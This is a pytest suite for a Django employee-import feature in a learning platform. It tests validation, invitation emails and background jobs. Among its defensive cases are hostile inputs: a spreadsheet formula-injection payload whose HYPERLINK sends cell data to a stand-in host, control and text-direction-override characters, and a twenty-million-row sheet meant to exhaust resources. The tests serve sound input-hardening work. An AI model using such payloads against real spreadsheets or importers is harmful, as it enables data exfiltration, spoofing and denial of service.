import csv
import datetime
import io
import posixpath
import time

import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook

from lms.akun.models import User
from lms.organisasi.imports import (
    employee_import_process,
    employee_import_run,
    employee_import_start,
)
from lms.organisasi.models import Employee, EmployeeImport

from ..core.xlsx_files import SHEET_PART, inline_row, sheet_xml, with_parts, workbook_bytes
from ..factories import EmployeeFactory

pytestmark = pytest.mark.django_db

HEADER = "NIP,nama,email,kode unit,jabatan,jenis pegawai"
GOOD_ROWS = [
    "198503122010031001,Ahmad Fauzi,ahmad@bawaslu.go.id,32.04,Staf Pencegahan,PNS",
    "199212302019022003,Siti Aminah,siti@bawaslu.go.id,32.73,Operator Data,PPPK",
    ",Budi Santoso,budi@bawaslu.go.id,32.01,Pengelola PPID,Non-ASN",
    ",Rina Wati,rina@bawaslu.go.id,32.04.01,Pengawas TPS,ad hoc",
]


def csv_bytes(*rows: str, header: str = HEADER) -> bytes:
    return ("\n".join([header, *rows]) + "\n").encode()


def test_good_csv_creates_accounts_profiles_and_invitations(
    org_tree, kecamatan, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        result = employee_import_run(content=csv_bytes(*GOOD_ROWS), filename="pegawai.csv")

    assert not result.rejected
    assert (result.created, result.updated) == (4, 0)
    ahmad = Employee.objects.select_related("user", "unit").get(nip="198503122010031001")
    assert ahmad.full_name == "Ahmad Fauzi"
    assert ahmad.unit.code == "32.04"
    assert ahmad.employment_type == Employee.EmploymentType.PNS
    assert ahmad.user.email == "ahmad@bawaslu.go.id"
    assert not ahmad.user.has_usable_password()
    assert list(ahmad.user.groups.values_list("name", flat=True)) == ["Peserta"]
    assert Employee.objects.get(user__email="rina@bawaslu.go.id").unit == kecamatan
    assert Employee.objects.get(user__email="budi@bawaslu.go.id").nip is None
    # Every new person is mailed a link to set their own password.
    assert sorted(m.to[0] for m in mail.outbox) == sorted(
        ["ahmad@bawaslu.go.id", "siti@bawaslu.go.id", "budi@bawaslu.go.id", "rina@bawaslu.go.id"]
    )
    assert "/akun/password/reset/key/" in mail.outbox[0].body


def test_invitation_link_lets_the_new_user_set_a_password(
    client, org_tree, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        employee_import_run(content=csv_bytes(GOOD_ROWS[0]), filename="pegawai.csv")
    link = next(w for w in mail.outbox[0].body.split() if "/akun/password/reset/key/" in w)
    path = link.replace("http://testserver", "")

    response = client.get(path, follow=True)
    form_url = response.redirect_chain[-1][0] if response.redirect_chain else path
    response = client.post(
        form_url, {"password1": "Pengawas-Pemilu-2026", "password2": "Pengawas-Pemilu-2026"}
    )

    assert response.status_code == 302
    assert User.objects.get(email="ahmad@bawaslu.go.id").check_password("Pengawas-Pemilu-2026")


def test_xlsx_is_accepted(org_tree):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER.split(","))
    sheet.append(
        ["198503122010031001", "Ahmad Fauzi", "ahmad@bawaslu.go.id", "32.04", "Staf", "PNS"]
    )
    buffer = io.BytesIO()
    workbook.save(buffer)

    result = employee_import_run(content=buffer.getvalue(), filename="pegawai.xlsx")

    assert result.created == 1
    assert Employee.objects.get().nip == "198503122010031001"


def test_a_file_with_bad_rows_is_rejected_whole_and_names_each_row(
    org_tree, django_capture_on_commit_callbacks
):
    rows = [
        GOOD_ROWS[0],
        "198503122010033002,Salah Kelamin,a@bawaslu.go.id,32.04,Staf,PNS",  # line 3: sex digit
        "198503122010031003,Unit Asing,b@bawaslu.go.id,99.99,Staf,PNS",  # line 4: unknown unit
        "198503122010031001,Kembar NIP,c@bawaslu.go.id,32.04,Staf,PNS",  # line 5: dup NIP
        "198503122010031004,Kembar Email,ahmad@bawaslu.go.id,32.04,Staf,PNS",  # line 6: dup email
        ",Tanpa NIP,d@bawaslu.go.id,32.04,Staf,PNS",  # line 7: NIP required for PNS
        "198503122010031005,,e@bawaslu.go.id,32.04,Staf,PNS",  # line 8: missing name
        "198503122010031006,Jenis Aneh,f@bawaslu.go.id,32.04,Staf,Honorer",  # line 9
        "198503122010031007,Email Rusak,bukan-email,32.04,Staf,PNS",  # line 10
    ]

    with django_capture_on_commit_callbacks(execute=True):
        result = employee_import_run(content=csv_bytes(*rows), filename="pegawai.csv")

    assert result.rejected
    by_line = {e["line"]: " ".join(e["reasons"]) for e in result.errors}
    assert sorted(by_line) == [3, 4, 5, 6, 7, 8, 9, 10]
    assert "jenis kelamin" in by_line[3]
    assert "Kode unit '99.99' tidak dikenal" in by_line[4]
    assert "NIP sama dengan baris 2" in by_line[5]
    assert "Email sama dengan baris 2" in by_line[6]
    assert "NIP wajib diisi" in by_line[7]
    assert "Kolom nama kosong" in by_line[8]
    assert "Honorer" in by_line[9]
    assert "tidak sah" in by_line[10]
    assert Employee.objects.count() == 0
    assert User.objects.count() == 0
    assert mail.outbox == []


def test_reimporting_the_same_file_updates_instead_of_duplicating(
    org_tree, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        employee_import_run(content=csv_bytes(*GOOD_ROWS[:3]), filename="pegawai.csv")
    assert len(mail.outbox) == 3
    mail.outbox.clear()
    changed = GOOD_ROWS[0].replace("Staf Pencegahan", "Kepala Subbagian").replace("32.04", "32.73")

    with django_capture_on_commit_callbacks(execute=True):
        result = employee_import_run(
            content=csv_bytes(changed, *GOOD_ROWS[1:3]), filename="pegawai.csv"
        )

    assert (result.created, result.updated) == (0, 3)
    assert Employee.objects.count() == 3
    assert User.objects.count() == 3
    ahmad = Employee.objects.get(nip="198503122010031001")
    assert (ahmad.position, ahmad.unit.code) == ("Kepala Subbagian", "32.73")
    assert mail.outbox == []


def test_a_row_may_not_take_another_persons_email(org_tree):
    EmployeeFactory(user__email="dipakai@bawaslu.go.id", nip="197001011994121001")

    result = employee_import_run(
        content=csv_bytes("198503122010031001,Orang Lain,dipakai@bawaslu.go.id,32.04,Staf,PNS"),
        filename="pegawai.csv",
    )

    assert result.rejected
    assert "NIP lain" in result.errors[0]["reasons"][0]


def test_missing_column_rejects_the_file_at_line_one(org_tree):
    with pytest.raises(Exception, match="kode unit"):
        employee_import_run(
            content=csv_bytes(GOOD_ROWS[0], header="NIP,nama,email,jabatan,jenis pegawai"),
            filename="pegawai.csv",
        )


def test_semicolon_csv_from_a_spreadsheet_in_indonesian_locale(org_tree):
    content = csv_bytes(
        *(r.replace(",", ";") for r in GOOD_ROWS[:2]), header=HEADER.replace(",", ";")
    )
    assert employee_import_run(content=content, filename="pegawai.csv").created == 2


def test_management_command_rejects_a_bad_file_with_line_numbers(org_tree, tmp_path, capsys):
    bad = tmp_path / "pegawai.csv"
    bad.write_bytes(csv_bytes(GOOD_ROWS[0], "1234,Pendek,x@bawaslu.go.id,32.04,Staf,PNS"))

    with pytest.raises(CommandError, match="ditolak"):
        call_command("import_employees", str(bad))

    assert "Baris 3: NIP harus terdiri atas 18 angka." in capsys.readouterr().err
    assert Employee.objects.count() == 0


def test_management_command_imports_a_good_file(org_tree, tmp_path, capsys):
    good = tmp_path / "pegawai.csv"
    good.write_bytes(csv_bytes(*GOOD_ROWS[:3]))

    call_command("import_employees", str(good))

    assert "3 pegawai baru" in capsys.readouterr().out
    assert Employee.objects.count() == 3


def test_admin_upload_shows_the_report(client, admin_lms, django_capture_on_commit_callbacks):
    client.force_login(admin_lms)
    upload = SimpleUploadedFile(
        "pegawai.csv", csv_bytes("1234,Pendek,x@bawaslu.go.id,32.04,Staf,PNS"), "text/csv"
    )

    # The job runs once the upload commits (eagerly in tests), before the page is opened.
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("organisasi_import:index"), {"file": upload})
    response = client.get(response.url)

    assert response.status_code == 200
    job = EmployeeImport.objects.get()
    assert job.status == EmployeeImport.Status.REJECTED
    content = response.content.decode()
    assert "Berkas ditolak" in content
    assert "NIP harus terdiri atas 18 angka." in content


def test_the_upload_request_only_stores_the_file_and_the_job_parses_it(
    client, admin_lms, media_root, django_capture_on_commit_callbacks, monkeypatch
):
    # given: a record of every time a file is read, and a queue that only records
    from lms.core import spreadsheets
    from lms.organisasi.imports import rows

    reads = []
    real_reader = spreadsheets.spreadsheet_rows

    def reader(*args, **kwargs):
        reads.append(kwargs["filename"])
        return real_reader(*args, **kwargs)

    monkeypatch.setattr(rows, "spreadsheet_rows", reader)
    queued = []
    monkeypatch.setattr(
        "lms.organisasi.tasks.employee_import_task.apply_async",
        lambda args, **options: queued.append(*args),
    )
    client.force_login(admin_lms)
    upload = SimpleUploadedFile("daftar pegawai.csv", csv_bytes(*GOOD_ROWS[:3]), "text/csv")

    # when: the upload
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("organisasi_import:index"), {"file": upload})

    # then: stored and queued, not read
    job = EmployeeImport.objects.get()
    assert response.status_code == 302
    assert response.url == reverse("organisasi_import:detail", args=[job.pk])
    assert queued == [job.pk]
    assert reads == []
    assert (job.status, job.total_rows, job.original_name) == ("pending", 0, "daftar pegawai.csv")
    assert (media_root / job.file.name).read_bytes() == csv_bytes(*GOOD_ROWS[:3])
    assert Employee.objects.filter(user__email="budi@bawaslu.go.id").count() == 0

    # when: the job
    from lms.organisasi.tasks import employee_import_task

    employee_import_task(job.pk)

    # then: the job read it, once, and imported it
    job.refresh_from_db()
    assert len(reads) == 1
    assert (job.status, job.total_rows, job.created_count) == ("done", 3, 3)


def test_an_upload_past_the_size_limit_is_refused_by_the_form(client, admin_lms, settings):
    settings.LMS_IMPORT_MAX_FILE_BYTES = 100
    client.force_login(admin_lms)
    upload = SimpleUploadedFile("pegawai.csv", csv_bytes(*GOOD_ROWS), "text/csv")

    response = client.post(reverse("organisasi_import:index"), {"file": upload})

    assert response.status_code == 200
    assert "Berkas lebih besar dari batas" in response.content.decode()
    assert not EmployeeImport.objects.exists()


def test_large_upload_runs_as_a_job_with_progress(
    client, admin_lms, django_capture_on_commit_callbacks
):
    client.force_login(admin_lms)
    upload = SimpleUploadedFile("pegawai.csv", csv_bytes(*GOOD_ROWS[:3]), "text/csv")

    with pytest.MonkeyPatch.context() as mp:
        queued = []
        mp.setattr(
            "lms.organisasi.tasks.employee_import_task.apply_async",
            lambda args, **options: queued.append(*args),
        )
        with django_capture_on_commit_callbacks(execute=True):
            client.post(reverse("organisasi_import:index"), {"file": upload})
    job = EmployeeImport.objects.get()
    status = client.get(reverse("organisasi_import:status", args=[job.pk])).json()
    assert queued == [job.pk]
    assert status["status"] == "pending"
    assert status["finished"] is False

    from lms.organisasi.tasks import employee_import_task

    employee_import_task(job.pk)
    status = client.get(reverse("organisasi_import:status", args=[job.pk])).json()
    assert status == {
        "status": "done",
        "status_label": "Selesai",
        "progress": 100,
        "processed_rows": 3,
        "total_rows": 3,
        "finished": True,
    }
    assert Employee.objects.filter(unit__path__startswith=admin_lms.employee.unit.path).count() == 4


def test_learner_cannot_reach_the_import(client, learner):
    client.force_login(learner)
    assert client.get(reverse("organisasi_import:index")).status_code in (302, 403)


def test_reimport_with_a_new_email_changes_the_login_address(org_tree):
    employee_import_run(content=csv_bytes(GOOD_ROWS[0]), filename="pegawai.csv")
    moved = GOOD_ROWS[0].replace("ahmad@bawaslu.go.id", "ahmad.fauzi@bawaslu.go.id")

    result = employee_import_run(content=csv_bytes(moved), filename="pegawai.csv")

    assert (result.created, result.updated) == (0, 1)
    user = Employee.objects.get(nip="198503122010031001").user
    assert user.email == "ahmad.fauzi@bawaslu.go.id"
    assert user.emailaddress_set.get().email == "ahmad.fauzi@bawaslu.go.id"


# Every field is checked whole, and every job ends with its reason --------------------------


def csv_rows_bytes(*rows: list[str]) -> bytes:
    """A CSV written by the csv module, so that tabs, CRs and quotes inside cells survive."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(HEADER.split(","))
    writer.writerows(rows)
    return buffer.getvalue().encode()


def run_job(content: bytes, name: str = "pegawai.csv") -> EmployeeImport:
    """Upload `content` as the admin page does, then run its job as the worker does."""
    job = employee_import_start(uploaded_file=SimpleUploadedFile(name, content), uploaded_by=None)
    employee_import_process(import_id=job.pk)
    job.refresh_from_db()
    return job


def reasons_by_line(job: EmployeeImport) -> dict[int, str]:
    return {e["line"]: " ".join(e["reasons"]) for e in job.errors}


AHMAD = ["198503122010031001", "Ahmad Fauzi", "ahmad@bawaslu.go.id", "32.04", "Staf", "PNS"]


def ahmad_with(**changes) -> list[str]:
    columns = ["nip", "name", "email", "unit", "position", "kind"]
    return [changes.get(column, value) for column, value in zip(columns, AHMAD, strict=True)]


@pytest.mark.parametrize(
    ("row", "words"),
    [
        pytest.param(
            ahmad_with(name="A" * 250), "Kolom nama berisi 250 karakter; batasnya 200", id="name"
        ),
        pytest.param(
            ahmad_with(email="a" * 64 + "@" + "b" * 204 + ".go.id"),
            "Kolom email berisi 275 karakter; batasnya 254",
            id="email",
        ),
        pytest.param(
            ahmad_with(position="J" * 300),
            "Kolom jabatan berisi 300 karakter; batasnya 200",
            id="position",
        ),
        pytest.param(
            ahmad_with(unit="3" * 40), "Kolom kode unit berisi 40 karakter; batasnya 32", id="unit"
        ),
        pytest.param(
            ahmad_with(name="Ahmad\x00Fauzi"), "Kolom nama berisi karakter kendali", id="nul-name"
        ),
        pytest.param(
            ahmad_with(position="Staf\x1b[2J"), "Kolom jabatan berisi karakter kendali", id="esc"
        ),
        pytest.param(
            ahmad_with(nip="19850312201003100\x00"),
            "Kolom NIP berisi karakter kendali",
            id="nul-nip",
        ),
        pytest.param(
            ahmad_with(email="ahmad\x00@bawaslu.go.id"),
            "Kolom email berisi karakter kendali",
            id="nul-email",
        ),
        pytest.param(
            ahmad_with(name="Ahmad\nFauzi"), "Kolom nama berisi karakter kendali", id="newline"
        ),
        pytest.param(
            ahmad_with(position="Staf\tUmum"), "Kolom jabatan berisi karakter kendali", id="tab"
        ),
        pytest.param(
            ahmad_with(name="Ahmad\u202eignaS"),
            "Kolom nama berisi karakter U+202E: karakter tak terlihat atau pengubah arah teks "
            "tidak diizinkan",
            id="rtl-override",
        ),
        pytest.param(
            ahmad_with(name="Ahmad\u200bFauzi"),
            "Kolom nama berisi karakter U+200B: karakter tak terlihat",
            id="zero-width",
        ),
        pytest.param(
            ahmad_with(position="Staf\u2066Umum"),
            "Kolom jabatan berisi karakter U+2066: karakter tak terlihat",
            id="isolate",
        ),
        pytest.param(
            ahmad_with(position="Staf\u2028Umum"),
            "Kolom jabatan berisi karakter U+2028: karakter tak terlihat",
            id="line-separator",
        ),
        pytest.param(
            ahmad_with(email="ahmad\u200d@bawaslu.go.id"),
            "Kolom email berisi karakter U+200D: karakter tak terlihat",
            id="email-joiner",
        ),
    ],
)
def test_a_bad_field_is_named_with_its_line_and_nothing_is_saved(org_tree, media_root, row, words):
    # given: a good first row and a bad second one
    good = ["199212302019022003", "Siti Aminah", "siti@bawaslu.go.id", "32.73", "Operator", "PPPK"]

    # when
    job = run_job(csv_rows_bytes(good, row))

    # then: rejected (not stuck, not crashed), the line named, nothing saved, the upload gone
    assert job.status == EmployeeImport.Status.REJECTED
    assert list(reasons_by_line(job)) == [3]
    assert words in reasons_by_line(job)[3]
    assert "\x00" not in str(job.errors)  # PostgreSQL's JSON refuses a NUL
    assert Employee.objects.count() == 0
    assert User.objects.count() == 0
    assert not job.file
    assert list(media_root.rglob("*.csv")) == []


def test_a_line_break_or_direction_override_never_changes_an_existing_name(org_tree):
    employee_import_run(content=csv_rows_bytes(AHMAD), filename="pegawai.csv")

    job = run_job(
        csv_rows_bytes(
            ahmad_with(name="Ahmad\r\nFauzi Hakim"),
            ahmad_with(
                nip="199212302019022003", email="siti@bawaslu.go.id", name="Siti\u202eanimA"
            ),
        )
    )

    assert job.status == EmployeeImport.Status.REJECTED
    reasons = reasons_by_line(job)
    assert list(reasons) == [2, 4]  # the first record spans lines 2 and 3 of the file
    assert "Kolom nama berisi karakter kendali" in reasons[2]
    assert "pengubah arah teks tidak diizinkan" in reasons[4]
    assert "\u202e" not in str(job.errors)  # the report does not reverse itself either
    assert list(Employee.objects.values_list("full_name", flat=True)) == ["Ahmad Fauzi"]


def test_spaces_are_still_tidied_and_the_row_accepted(org_tree):
    result = employee_import_run(
        content=csv_rows_bytes(ahmad_with(name="  Ahmad \u00a0 Fauzi ", position="Staf  Umum")),
        filename="pegawai.csv",
    )

    assert not result.rejected, result.errors
    employee = Employee.objects.get()
    assert (employee.full_name, employee.position) == ("Ahmad Fauzi", "Staf Umum")


@pytest.mark.parametrize(
    ("field", "value", "words"),
    [
        ("full_name", "Rina\u202eitaW", "karakter tak terlihat atau pengubah arah teks"),
        ("full_name", "Rina\u200bWati", "karakter U+200B"),
        ("full_name", "Rina\nWati", "karakter kendali"),
        ("position", "Staf\tUmum", "karakter kendali"),
        ("email", "rina@bawa\u202eslu.go.id", "karakter U+202E"),  # EmailField takes it
    ],
)
def test_the_employee_admin_form_refuses_invisible_and_control_characters(
    org_tree, field, value, words
):
    from lms.organisasi.forms import EmployeeAdminForm
    from lms.organisasi.models import OrgUnit

    data = {
        "full_name": "Rina Wulandari",
        "email": "rina@bawaslu.go.id",
        "nip": "199001012015032001",
        "employment_type": Employee.EmploymentType.PNS,
        "position": "Staf",
        "unit": OrgUnit.objects.get(code="32.04").pk,
        "is_active": True,
    }
    assert EmployeeAdminForm(data=data).is_valid()

    form = EmployeeAdminForm(data={**data, field: value})

    assert not form.is_valid()
    assert words in " ".join(form.errors[field])


def test_an_over_long_name_for_an_existing_employee_is_refused_not_cut(org_tree):
    employee_import_run(content=csv_rows_bytes(AHMAD), filename="pegawai.csv")
    long_name = "Prof. Dr. " + "Ahmad Fauzi " * 20

    job = run_job(csv_rows_bytes(ahmad_with(name=long_name.strip())))

    assert job.status == EmployeeImport.Status.REJECTED
    assert "Kolom nama berisi 249 karakter; batasnya 200" in reasons_by_line(job)[2]
    assert Employee.objects.get().full_name == "Ahmad Fauzi"


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://contoh.test/?x="&A1,"Klik")',
        "+62 812 3456",
        "-1+1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_name_that_starts_like_a_formula_is_refused(org_tree, name):
    result = employee_import_run(content=csv_rows_bytes(ahmad_with(name=name)), filename="a.csv")

    assert result.rejected
    assert result.errors[0]["line"] == 2
    assert "Kolom nama tidak boleh diawali tanda =, +, -, @, tab atau CR" in " ".join(
        result.errors[0]["reasons"]
    )
    assert Employee.objects.count() == 0


def test_a_position_or_email_that_starts_like_a_formula_is_refused(org_tree):
    rows = [
        ahmad_with(position="=1+2"),
        ahmad_with(nip="", email="=x@bawaslu.go.id", kind="ad hoc"),
    ]

    result = employee_import_run(content=csv_rows_bytes(*rows), filename="a.csv")

    by_line = {e["line"]: " ".join(e["reasons"]) for e in result.errors}
    assert "Kolom jabatan tidak boleh diawali" in by_line[2]
    assert "Kolom email tidak boleh diawali" in by_line[3]


@pytest.mark.parametrize(
    ("content", "line", "words"),
    [
        pytest.param(
            csv_bytes(GOOD_ROWS[0]) + b'"' + (b"x" * 1000 + b"\n") * 200,
            3,
            "tidak dapat dibaca",
            id="unterminated-quote",
        ),
        pytest.param(
            csv_bytes(GOOD_ROWS[0]) + ",Dédé,d@bawaslu.go.id,32.04,Staf,PNS\n".encode("latin-1"),
            3,
            "bukan teks UTF-8",
            id="not-utf8",
        ),
    ],
)
def test_a_malformed_csv_ends_the_job_with_its_reason_and_removes_the_upload(
    org_tree, media_root, content, line, words
):
    job = run_job(content)

    assert job.status == EmployeeImport.Status.REJECTED
    assert words in reasons_by_line(job)[line]
    assert not job.file
    assert list(media_root.rglob("*.csv")) == []
    assert Employee.objects.count() == 0


@pytest.mark.parametrize(
    ("sheet", "words"),
    [
        pytest.param(
            sheet_xml(inline_row(1, *HEADER.split(",")) + inline_row(2, *AHMAD))[:-30],
            "tidak dapat dibaca",
            id="truncated",
        ),
        pytest.param(
            sheet_xml(
                inline_row(1, *HEADER.split(",")) + '<row r="2"><c r="A2" t="s"><v>99</v></c></row>'
            ),
            "rusak",
            id="shared-string-index",
        ),
    ],
)
def test_a_broken_sheet_ends_the_job_with_its_reason_and_removes_the_upload(
    org_tree, media_root, sheet, words
):
    content = with_parts(workbook_bytes([["x"]]), {SHEET_PART: sheet})

    job = run_job(content, "pegawai.xlsx")

    assert job.status == EmployeeImport.Status.REJECTED
    assert words in " ".join(job.errors[0]["reasons"])
    assert not job.file
    assert list(media_root.rglob("*.xlsx")) == []


def test_an_employee_sheet_with_twenty_million_blank_rows_is_refused_within_seconds(org_tree):
    sheet = sheet_xml(
        inline_row(1, *HEADER.split(","))
        + inline_row(2, *AHMAD)
        + inline_row(20_000_000, *GOOD_ROWS[1].split(","))
    )
    content = with_parts(workbook_bytes([["x"]]), {SHEET_PART: sheet})

    started = time.process_time()
    job = run_job(content, "pegawai.xlsx")

    assert time.process_time() - started < 3
    assert job.status == EmployeeImport.Status.REJECTED
    assert reasons_by_line(job)[20_000_000].startswith(
        "Berkas berisi lebih dari 200000 baris (baris kosong ikut dihitung)"
    )
    assert Employee.objects.count() == 0


def test_an_unexpected_error_ends_the_job_failed_with_its_reason(
    client, admin_lms, media_root, monkeypatch
):
    # given: the save step breaks
    def broken(*args, **kwargs):
        raise RuntimeError("disk penuh")

    monkeypatch.setattr("lms.organisasi.imports.jobs.employee_import_apply", broken)

    # when
    job = run_job(csv_bytes(*GOOD_ROWS[:2]))

    # then: failed with its reason, on the row and on the page; the upload removed
    assert job.status == EmployeeImport.Status.FAILED
    assert job.is_finished
    assert "kesalahan sistem (RuntimeError)" in job.errors[0]["reasons"][0]
    assert not job.file
    assert list(media_root.rglob("*.csv")) == []
    client.force_login(admin_lms)
    page = client.get(reverse("organisasi_import:detail", args=[job.pk])).content.decode()
    assert "Impor gagal; tidak ada data yang disimpan" in page
    assert "kesalahan sistem (RuntimeError)" in page


def test_the_sweeper_fails_a_job_whose_worker_died_and_removes_its_upload(media_root):
    # given: a job a worker started long ago and never finished, and one just uploaded
    from lms.organisasi.tasks import employee_import_sweep_task

    died = employee_import_start(
        uploaded_file=SimpleUploadedFile("lama.csv", csv_bytes(GOOD_ROWS[0])), uploaded_by=None
    )
    long_ago = timezone.now() - datetime.timedelta(hours=1)
    EmployeeImport.objects.filter(pk=died.pk).update(
        status=EmployeeImport.Status.RUNNING, created_at=long_ago, started_at=long_ago
    )
    fresh = employee_import_start(
        uploaded_file=SimpleUploadedFile("baru.csv", csv_bytes(GOOD_ROWS[0])), uploaded_by=None
    )

    # when
    assert employee_import_sweep_task() == 1

    # then
    died.refresh_from_db()
    fresh.refresh_from_db()
    assert died.status == EmployeeImport.Status.FAILED
    assert "tidak selesai dalam 30 menit" in died.errors[0]["reasons"][0]
    assert not died.file
    assert fresh.status == EmployeeImport.Status.PENDING
    assert [p.name for p in media_root.rglob("*.csv")] == [posixpath.basename(fresh.file.name)]


def test_a_job_waiting_through_a_long_broker_outage_still_runs_after_it(media_root, org_tree):
    # given: a job uploaded two hours ago whose message the broker never took
    from lms.organisasi.tasks import employee_import_sweep_task, employee_import_task

    waiting = employee_import_start(
        uploaded_file=SimpleUploadedFile("lama.csv", csv_bytes(GOOD_ROWS[0])), uploaded_by=None
    )
    EmployeeImport.objects.filter(pk=waiting.pk).update(
        created_at=timezone.now() - datetime.timedelta(hours=2)
    )

    # when: the import sweeper runs, then the outbox finally delivers the message
    assert employee_import_sweep_task() == 0
    employee_import_task(waiting.pk)

    # then
    waiting.refresh_from_db()
    assert waiting.status == EmployeeImport.Status.DONE
    assert waiting.started_at is not None


def test_a_job_never_started_in_a_day_is_given_up_with_its_reason(media_root):
    from lms.organisasi.tasks import employee_import_sweep_task

    stuck = employee_import_start(
        uploaded_file=SimpleUploadedFile("lama.csv", csv_bytes(GOOD_ROWS[0])), uploaded_by=None
    )
    EmployeeImport.objects.filter(pk=stuck.pk).update(
        created_at=timezone.now() - datetime.timedelta(hours=25)
    )

    assert employee_import_sweep_task() == 1

    stuck.refresh_from_db()
    assert stuck.status == EmployeeImport.Status.FAILED
    assert "tidak pernah dimulai dalam 24 jam" in stuck.errors[0]["reasons"][0]
    assert not stuck.file


def test_a_long_report_keeps_its_first_thousand_lines_and_counts_the_rest(org_tree):
    rows = [f",Orang {n},orang{n}@bawaslu.go.id,99.99,Staf,Non-ASN" for n in range(1005)]

    job = run_job(csv_bytes(*rows))

    assert job.status == EmployeeImport.Status.REJECTED
    assert len(job.errors) == 1001
    assert job.errors[-1]["reasons"] == ["... dan 5 baris lain juga bermasalah."]
